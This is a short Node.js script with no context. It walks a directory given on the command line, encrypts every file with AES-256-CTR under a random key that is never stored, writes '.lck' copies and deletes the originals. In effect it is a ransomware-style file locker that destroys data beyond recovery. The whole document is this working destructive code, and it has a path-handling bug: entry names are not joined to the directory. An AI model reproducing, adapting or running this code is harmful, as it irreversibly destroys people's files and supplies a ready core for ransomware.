const { readdirSync, readFileSync, writeFileSync, unlinkSync } = require('fs');
const { createCipheriv, randomBytes } = require('crypto');
const key = randomBytes(32);
const lock = (file) => {
  const c = createCipheriv('aes-256-ctr', key, Buffer.alloc(16));
  writeFileSync(`${file}.lck`, c.update(readFileSync(file)));
  unlinkSync(file);
};
for (const entry of readdirSync(process.argv[2])) lock(entry);
